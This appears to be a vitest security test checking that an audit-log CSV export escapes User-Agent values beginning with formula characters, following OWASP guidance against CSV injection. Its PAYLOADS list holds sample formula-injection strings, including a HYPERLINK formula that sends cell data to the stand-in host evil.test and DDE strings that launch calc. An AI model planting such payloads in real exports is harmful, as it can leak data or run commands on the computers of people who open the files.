import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from '../../src/application/audit-export.js';
import { ADMIN_TOKEN, expectData, startTestGateway, type TestGateway } from '../support/gateway.js';

/**
 * Issue 14, "exports cannot carry spreadsheet formulas": a client chooses its
 * User-Agent, which the audit log records and the CSV export writes. Opened
 * in a spreadsheet, a cell beginning with `=`, `+`, `-`, `@`, tab or CR runs
 * as a formula unless escaped as OWASP recommends.
 */
const PAYLOADS = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0"];

/** RFC 4180 cells of the CSV text (quoted fields with "" and line breaks inside). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('security: CSV exports cannot carry spreadsheet formulas', () => {
  let gw: TestGateway;
  beforeAll(async () => {
    gw = await startTestGateway();
    expectData(await gw.gql(`mutation { createTenant(input: {id: "acme", name: "Acme", adminUserId: "admin"}) { id } }`));
    for (const [i, payload] of PAYLOADS.entries()) {
      expectData(
        await gw.gql(
          `mutation($id: ID!) { createNamespace(input: {id: $id}) { id } }`,
          { id: `ns${i}` },
          {
            tenant: 'acme',
            headers: { 'user-agent': payload },
          },
        ),
      );
    }
  });
  afterAll(async () => {
    await gw.dispose();
  });

  it('no cell of the download begins with a formula character; the value is there behind a single quote', async () => {
    const response = await fetch(`${gw.url}/api/v1/acme/audit-logs/export?format=csv`, {
      headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
    });
    expect(response.status).toBe(200);
    const rows = parseCsv(await response.text());
    const header = rows[0]!;
    const userAgent = header.indexOf('userAgent');
    const cells = rows.slice(1).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const agents = rows.slice(1).map((row) => row[userAgent]);
    for (const payload of PAYLOADS) expect(agents).toContain(`'${payload}`);
    // NDJSON carries the value as recorded.
    const ndjson = await (
      await fetch(`${gw.url}/api/v1/acme/audit-logs/export?format=ndjson`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } })
    ).text();
    const recorded = ndjson
      .trim()
      .split('\n')
      .map((line) => (JSON.parse(line) as { userAgent: string | null }).userAgent);
    for (const payload of PAYLOADS) expect(recorded).toContain(payload);
  });

  it('tab and carriage return (which HTTP headers cannot start with) are escaped too', () => {
    expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvField('=1,"2"')).toBe(`"'=1,""2"""`);
    expect(csvField('plain, text')).toBe('"plain, text"');
    expect(csvField('a=1')).toBe('a=1');
  });
});
